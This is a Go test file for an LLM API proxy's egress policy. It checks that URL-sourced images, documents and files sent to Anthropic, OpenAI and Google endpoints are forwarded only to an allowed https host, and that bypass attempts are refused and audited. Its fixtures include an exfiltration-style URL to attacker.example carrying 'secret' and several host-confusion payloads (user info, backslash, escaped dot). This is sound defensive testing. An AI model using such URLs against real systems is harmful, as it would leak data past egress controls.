package llm

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"
)

// allowHost is an EgressPolicy that allows https URLs on one host and
// records what it was asked.
type allowHost struct {
	host string
	mu   sync.Mutex
	seen []string // "field url"
}

func (a *allowHost) judge(_ context.Context, field string, u *url.URL) error {
	a.mu.Lock()
	a.seen = append(a.seen, field+" "+u.String())
	a.mu.Unlock()
	if u.Scheme == "https" && u.Host == a.host {
		return nil
	}
	return errors.New("http_fetch of " + u.Host + " is denied by rule no-egress")
}

func (a *allowHost) asked() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.seen)
}

// A URL-sourced block is forwarded, unchanged, exactly when the
// EgressPolicy allows its URL; the policy is asked once per URL with its
// field, a refusal names the field and the policy's reason, and the audit
// record holds each judgement. A URL the policy could read otherwise than
// the provider (user info, backslashes, odd escapes) never reaches it.
func TestEgressPolicyJudgesFetches(t *testing.T) {
	pol := &allowHost{host: "allowed.example"}
	f := newFixture(t, func(o *Options) { o.Egress = pol.judge })
	var seen []byte
	f.up.setHandler(func(w http.ResponseWriter, r *http.Request) {
		seen, _ = io.ReadAll(r.Body)
		io.WriteString(w, "{}")
	})
	const img = "https://allowed.example/cat.png?size=2"
	tests := []struct {
		name, provider, path, body string
		fields                     []string // the fields the policy is asked about, in order
		refused                    string   // the field refused, "" when forwarded
	}{
		{"anthropic image", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"` + img + `"}}]}]}`,
			[]string{"messages[0].content[0].source.url"}, ""},
		{"anthropic document in a tool result", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"url":"` + img + `","type":"url"}}]}]}]}`,
			[]string{"messages[0].content[0].content[0].source.url"}, ""},
		{"anthropic second url denied", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"` + img + `"}},{"type":"image","source":{"type":"url","url":"https://attacker.example/?d=secret"}}]}]}`,
			[]string{"messages[0].content[0].source.url", "messages[0].content[1].source.url"}, "messages[0].content[1].source.url"},
		{"anthropic http is not https", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"http://allowed.example/"}}]}]}`,
			[]string{"messages[0].content[0].source.url"}, "messages[0].content[0].source.url"},
		{"anthropic user info", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://allowed.example@attacker.example/"}}]}]}`,
			nil, "messages[0].content[0].source.url"},
		{"anthropic backslash", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example\\\\@allowed.example/"}}]}]}`,
			nil, "messages[0].content[0].source.url"},
		{"anthropic not canonical", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"HTTPS://allowed.example/"}}]}]}`,
			nil, "messages[0].content[0].source.url"},
		{"anthropic escaped host", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://allowed%2eexample/"}}]}]}`,
			nil, "messages[0].content[0].source.url"},
		{"anthropic too many urls", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[` + strings.Repeat(`{"type":"image","source":{"type":"url","url":"`+img+`"}},`, maxFetches) + `{"type":"image","source":{"type":"url","url":"` + img + `"}}]}]}`,
			nil, "messages[0].content[32].source.url"},
		{"anthropic not a url", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"gs://allowed.example/x"}}]}]}`,
			nil, "messages[0].content[0].source.url"},
		{"openai chat image", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"` + img + `","detail":"low"}}]}]}`,
			[]string{"messages[0].content[0].image_url.url"}, ""},
		{"openai chat image denied", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/"}}]}]}`,
			[]string{"messages[0].content[0].image_url.url"}, "messages[0].content[0].image_url.url"},
		{"openai responses image and file", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"` + img + `"},{"type":"input_file","file_url":"https://allowed.example/a.pdf"}]}]}`,
			[]string{"input[0].content[0].image_url", "input[0].content[1].file_url"}, ""},
		{"openai responses file denied", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://attacker.example/a.pdf"}]}]}`,
			[]string{"input[0].content[0].file_url"}, "input[0].content[0].file_url"},
		{"google file uri", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"file_data":{"file_uri":"` + img + `","mime_type":"image/png"}}]}]}`,
			[]string{"contents[0].parts[0].file_data.file_uri"}, ""},
		{"google file uri denied", ggl, "/v1beta/models/gemini-2.5-pro:countTokens", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://attacker.example/v"}}]}]}`,
			[]string{"contents[0].parts[0].fileData.fileUri"}, "contents[0].parts[0].fileData.fileUri"},
		{"google Files API is not a fetch", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://generativelanguage.googleapis.com/v1beta/files/abc"}}]}]}`,
			nil, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			before := len(pol.asked())
			n := len(f.audit())
			seen = nil
			status, body, refused := do(t, f.direct(), "POST", f.base("/"+tc.provider+tc.path), egressHeaders(f, tc.provider), tc.body)
			rec := f.auditN(t, n+1)[n]
			var asked []string
			for _, a := range pol.asked()[before:] {
				field, _, _ := strings.Cut(a, " ")
				asked = append(asked, field)
			}
			require.Equal(t, tc.fields, asked)
			require.Len(t, rec.Egress, len(tc.fields))
			for i, e := range rec.Egress {
				require.Equal(t, tc.fields[i], e.Field)
				require.Equal(t, tc.refused != tc.fields[i], e.Allowed)
				require.NotContains(t, e.Host, "?")
			}
			if !requireEgressOutcome(t, f, status, body, refused, rec, &seen, tc.body, tc.refused) {
				return
			}
			if len(tc.fields) > 0 {
				require.Contains(t, body, "denied by rule no-egress")
			}
			require.NotContains(t, rec.Refused, "secret")
		})
	}
}
